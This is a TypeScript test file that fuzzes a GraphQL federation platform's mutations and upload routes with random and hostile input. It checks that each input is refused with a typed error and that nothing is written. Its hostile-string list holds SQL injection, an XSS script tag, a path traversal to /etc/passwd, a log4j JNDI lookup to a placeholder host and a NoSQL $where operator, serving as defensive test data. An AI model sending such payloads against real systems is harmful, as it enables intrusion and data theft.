import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { Supergraph } from '@apollo/federation-internals';
import type { TestService } from '@mutu/service/testing';
import { directoryStore } from '@mutu/storage';
import fc from 'fast-check';
import {
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
} from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SUPERGRAPH_FILE } from '../src/compose.js';
import { type Platform, startPlatform } from './platform.js';

/**
 * Random and hostile arguments to every mutation and upload route, as an administrator sends
 * them (past every permission check, so the input itself is what is tested): never an internal
 * error, always a typed error naming the field, and nothing written: the same rows in every
 * table of every subgraph (audit rows included) and the same objects in the evidence store.
 */
let platform: Platform;
let admin: Record<string, string>;
let evidenceDir: string;
beforeAll(async () => {
  evidenceDir = await mkdtemp(path.join(os.tmpdir(), 'mutu-bad-input-'));
  platform = await startPlatform({ evidence: { store: directoryStore(evidenceDir) } });
  admin = await platform.bearer({ sub: 'admin@mutu.test', role: 'admin' });
}, 240_000);
afterAll(async () => {
  await platform?.close();
  await rm(evidenceDir, { recursive: true, force: true });
});

/** Each table's row count and a checksum of its rows, in every subgraph's database. */
async function snapshot(): Promise<Record<string, string>> {
  const services: [string, TestService][] = [
    ['organisations', platform.organisations],
    ['assessments', platform.assessments],
    ['engagement', platform.engagement],
  ];
  const sums: Record<string, string> = {};
  for (const [name, service] of services) {
    const tables = await service.sql<{ name: string }>(
      `select tablename as name from pg_tables where schemaname = 'public' order by 1`,
    );
    for (const { name: table } of tables) {
      const [row] = await service.sql<{ n: number; sum: string | null }>(
        `select count(*)::int as n, md5(string_agg(t::text, '|' order by t::text)) as sum from "${table}" t`,
      );
      sums[`${name}.${table}`] = `${row?.n}:${row?.sum ?? ''}`;
    }
  }
  const stored = await readdir(evidenceDir, { recursive: true }).catch(() => []);
  sums['evidence store'] = [...stored].sort().join(',');
  return sums;
}

const HOSTILE_STRINGS = [
  '',
  ' ',
  '\t\n',
  "'; DROP TABLE organisations; --",
  "1' OR '1'='1",
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  // A log4j lookup, as attackers send it.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
  '${jndi:ldap://example.invalid/a}',
  '\u0000',
  '\u202eevil',
  'NaN',
  'Infinity',
  '-1',
  '15..01',
  '99.99',
  '0x1F',
  '2024-02-30',
  '9999-99-99T99:99:99Z',
  '💥'.repeat(20),
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c)),
      maxLength: 20,
    }),
  },
  { weight: 1, arbitrary: fc.uuid().map((u) => `no-such-${u}`) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(200_000), 'é'.repeat(60_000)) },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -0, -1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 1, 1e308, -1e308, 5e-324, 0.5),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value, for a field of another type. */
const wrongType = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  hostileString,
  fc.constant([]),
  fc.constant({}),
  fc.constant({ $where: '1 == 1' }),
);

/** Values for a GraphQL input type, mostly of its shape with hostile leaves, sometimes not. */
function arbitraryOf(type: GraphQLInputType, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) {
    return fc.oneof(
      { weight: 9, arbitrary: arbitraryOf(type.ofType, depth) },
      { weight: 1, arbitrary: fc.constant(null) },
    );
  }
  const shaped = shapedValue(type, depth);
  return fc.oneof({ weight: 7, arbitrary: shaped }, { weight: 1, arbitrary: wrongType });
}

function shapedValue(type: GraphQLInputType, depth: number): fc.Arbitrary<unknown> {
  if (isListType(type))
    return fc.array(arbitraryOf(type.ofType, depth + 1), { maxLength: depth > 1 ? 1 : 3 });
  if (isInputObjectType(type)) {
    if (depth > 3) return fc.constant({});
    const fields = Object.values(type.getFields());
    return fc.record(
      Object.fromEntries(fields.map((f) => [f.name, arbitraryOf(f.type, depth + 1)])),
      {
        requiredKeys: fields.filter((f) => isNonNullType(f.type)).map((f) => f.name),
      },
    );
  }
  if (isEnumType(type)) {
    return fc.oneof(fc.constantFrom(...type.getValues().map((v) => v.name)), hostileString);
  }
  if (isScalarType(type)) {
    if (type.name === 'Int' || type.name === 'Float') return hostileNumber;
    if (type.name === 'Boolean') return fc.oneof(fc.boolean(), fc.constantFrom('true', 0, 1));
    return hostileString;
  }
  return wrongType;
}

const apiSchema = async () =>
  Supergraph.build(await readFile(SUPERGRAPH_FILE, 'utf8'))
    .apiSchema()
    .toGraphQLJSSchema();

function operationOf(field: GraphQLField<unknown, unknown>): string {
  const declared = field.args.map((a) => `$${a.name}: ${a.type}`).join(', ');
  const passed = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  return `mutation Hostile${declared ? `(${declared})` : ''} { ${field.name}${passed ? `(${passed})` : ''} { __typename ... on MutationError { message field } } }`;
}

type Answer = {
  status: number;
  body: {
    data?: Record<string, { __typename: string; message?: string; field?: string | null }> | null;
    errors?: { message: string; extensions?: { code?: string; argument?: string } }[];
  };
};

async function send(operation: string, variables: Record<string, unknown>): Promise<Answer> {
  const response = await fetch(platform.gateway.url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...admin },
    body: JSON.stringify({ query: operation, variables }),
  });
  return { status: response.status, body: (await response.json()) as Answer['body'] };
}

/** What is wrong with an answer to hostile input, or undefined when it is a proper refusal. */
function problemWith(
  answer: Answer,
  field: string,
  args: readonly GraphQLArgument[],
): string | undefined {
  if (answer.status >= 500) return `HTTP ${answer.status}`;
  for (const error of answer.body.errors ?? []) {
    const code = error.extensions?.code;
    if (!code || code === 'INTERNAL_SERVER_ERROR') return `untyped error: ${error.message}`;
    const named =
      error.extensions?.argument !== undefined ||
      args.some(
        (a) => error.message.includes(`$${a.name}`) || error.message.includes(`"${a.name}`),
      );
    if (!named) return `${code} does not name the field: ${error.message}`;
  }
  if (answer.body.errors?.length) return undefined;
  const result = answer.body.data?.[field];
  if (!result) return 'no answer and no error';
  if (result.message === undefined) return `accepted: ${result.__typename}`;
  if (!result.field) return `${result.__typename} does not name the field: ${result.message}`;
  return undefined;
}

describe('hostile arguments to every mutation', () => {
  it('are refused with a typed error naming the field, and change nothing', async () => {
    const schema = await apiSchema();
    const mutations = Object.values(schema.getMutationType()?.getFields() ?? {});
    expect(mutations.length).toBeGreaterThan(30);
    const before = await snapshot();
    let tried = 0;
    const failures: string[] = [];
    for (const mutation of mutations) {
      const operation = operationOf(mutation);
      const variables = fc.record(
        Object.fromEntries(mutation.args.map((a) => [a.name, arbitraryOf(a.type)])),
        { requiredKeys: [] },
      );
      const samples = fc.sample(variables, { numRuns: 20, seed: 20261203 });
      for (const sample of samples) {
        tried += 1;
        const answer = await send(operation, sample);
        const problem = problemWith(answer, mutation.name, mutation.args);
        if (problem) {
          failures.push(`${mutation.name}(${JSON.stringify(sample).slice(0, 300)}): ${problem}`);
        }
      }
    }
    const after = await snapshot();
    const changed = Object.keys(after).filter((table) => after[table] !== before[table]);
    console.log(
      `bad input, mutations: ${tried} cases tried on ${mutations.length} mutations, ${failures.length} failed, ${changed.length} tables changed`,
    );
    expect(failures.slice(0, 40)).toEqual([]);
    expect(changed).toEqual([]);
  }, 300_000);
});

/** A body of the given bytes as one `file` part. */
function upload(bytes: Uint8Array, name: string, type: string) {
  const form = new FormData();
  form.append('file', new Blob([bytes], { type }), name);
  return form;
}

describe('hostile files and parameters on the upload routes', () => {
  const PDF = Buffer.from(
    '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
  );

  it('are refused with a typed error naming what is wrong, and store nothing', async () => {
    const before = await snapshot();
    const cases = fc.sample(
      fc.record({
        route: fc.constantFrom('/evidence', '/imports/results', '/imports/skm'),
        lokusId: hostileString,
        indicator: hostileString,
        body: fc.oneof(
          fc.constant(upload(PDF.subarray(0, 20), 'truncated.pdf', 'application/pdf')),
          fc.constant(
            upload(Buffer.from('MZ\x90\x00 not a document'), 'tool.exe', 'application/pdf'),
          ),
          fc.constant(upload(new Uint8Array(0), 'empty.pdf', 'application/pdf')),
          fc.constant(
            upload(
              Buffer.from('PK\x03\x04 truncated zip'),
              'survey.xlsx',
              'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
            ),
          ),
          fc.constant(
            upload(
              Buffer.from('framework;year\nIPP;NaN\n;;;;\n"unterminated'),
              'results.csv',
              'text/csv',
            ),
          ),
          fc
            .string({ maxLength: 200 })
            .map((text) => upload(Buffer.from(text), 'random.csv', 'text/csv')),
          fc.constant(new FormData()),
          fc.constant('not multipart at all'),
        ),
      }),
      { numRuns: 60, seed: 20261203 },
    );
    const failures: string[] = [];
    for (const c of cases) {
      const target = new URL(c.route, platform.gateway.url);
      target.searchParams.set('lokusId', c.lokusId as string);
      target.searchParams.set('indicator', c.indicator as string);
      target.searchParams.set('periodId', c.lokusId as string);
      const response = await fetch(target, {
        method: 'POST',
        headers: admin,
        body: c.body as never,
      });
      const text = await response.text();
      const label = `${c.route} ${String(c.lokusId).slice(0, 40)}`;
      if (response.status >= 500)
        failures.push(`${label}: HTTP ${response.status} ${text.slice(0, 200)}`);
      else if (response.status < 400) {
        // The results import answers 200 with its report: nothing committed, each problem
        // naming its row and column, is its refusal.
        const report = JSON.parse(text) as { committed?: boolean; problems?: { row: number }[] };
        const refused =
          c.route === '/imports/results' &&
          report.committed === false &&
          (report.problems?.length ?? 0) > 0;
        if (!refused)
          failures.push(`${label}: accepted (${response.status}) ${text.slice(0, 200)}`);
      } else {
        let code: string | undefined;
        try {
          code = (JSON.parse(text) as { errors?: { extensions?: { code?: string } }[] }).errors?.[0]
            ?.extensions?.code;
        } catch {
          code = undefined;
        }
        if (!code || code === 'INTERNAL_SERVER_ERROR') {
          failures.push(`${label}: HTTP ${response.status} untyped: ${text.slice(0, 200)}`);
        }
      }
    }
    const after = await snapshot();
    const changed = Object.keys(after).filter((table) => after[table] !== before[table]);
    console.log(
      `bad input, uploads: ${cases.length} cases tried on 3 routes, ${failures.length} failed, ${changed.length} tables changed`,
    );
    expect(failures.slice(0, 40)).toEqual([]);
    expect(changed).toEqual([]);
  }, 300_000);
});
